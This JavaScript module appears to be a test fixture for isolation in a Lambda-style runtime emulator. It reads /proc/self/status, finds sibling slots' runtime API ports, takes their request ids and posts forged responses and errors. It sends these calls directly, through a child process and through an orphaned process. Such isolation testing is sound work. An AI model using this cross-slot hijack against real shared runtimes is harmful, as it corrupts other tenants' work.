// A function that works until it is told to stop, or attacks its neighbour: another slot of the same worker.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, readFileSync } from "node:fs";
import { request } from "node:http";
import { fileURLToPath } from "node:url";
import { listening } from "./listening.mjs";

const PREFIX = "/2018-06-01/runtime/invocation";
const FILE = fileURLToPath(import.meta.url);

/** `until`: works until that file is there. `id`: the neighbour's task, as if it were known. */
export const handler = async ({ until, id }) => {
  if (until === undefined) return attack(id);
  console.log("working");
  while (!existsSync(until)) await new Promise((resolve) => setTimeout(resolve, 10));
  return "honest";
};

/** As itself, by a child that has the neighbour's variables, and by one that has left this family and its session. */
async function attack(id) {
  const own = new URL(`http://${process.env.AWS_LAMBDA_RUNTIME_API}`).port;
  const worker = /^PPid:\s+(\d+)/m.exec(readFileSync("/proc/self/status", "utf8"))[1];
  const ports = listening(worker).filter((port) => port !== own);
  const heard = { itself: [], child: [], orphan: [] };
  for (const port of ports) {
    heard.itself.push(...(await tryPort(port, id)));
    heard.child.push(...(await apart('"$@"; exit $?', port, id)));
    heard.orphan.push(...(await apart('setsid "$@" & exit 0', port, id)));
  }
  return heard;
}

async function apart(script, port, id) {
  const child = spawn("sh", ["-c", script, "sh", process.execPath, FILE, port, id], {
    env: { ...process.env, AWS_LAMBDA_RUNTIME_API: `127.0.0.1:${port}` },
    stdio: ["ignore", "pipe", "inherit"],
  });
  let text = "";
  child.stdout.setEncoding("utf8").on("data", (more) => (text += more));
  await once(child.stdout, "close");
  return JSON.parse(text);
}

/** What `port` says to: what is your task? here is its answer; here is that of the task that I know of. */
async function tryPort(port, id) {
  const asked = await call("GET", port, `${PREFIX}/next`);
  const stolen = asked.headers?.["lambda-runtime-aws-request-id"] ?? id;
  const answers = [asked];
  answers.push(await call("POST", port, `${PREFIX}/${stolen}/response`, '"forged"'));
  answers.push(await call("POST", port, `${PREFIX}/${id}/error`, '{"errorType":"Forged"}'));
  return answers.map(({ status }) => status);
}

function call(method, port, path, body) {
  return new Promise((resolve) => {
    const outgoing = request({ host: "127.0.0.1", port, method, path, agent: false }, (response) => {
      response.resume();
      resolve({ status: response.statusCode, headers: response.headers });
    });
    outgoing.on("error", (error) => resolve({ status: error.code }));
    // A /next that is held is no refusal either.
    outgoing.setTimeout(1_000, () => outgoing.destroy(Object.assign(new Error("held"), { code: "HELD" })));
    outgoing.end(body);
  });
}

if (process.argv[1] === FILE) console.log(JSON.stringify(await tryPort(process.argv[2], process.argv[3])));
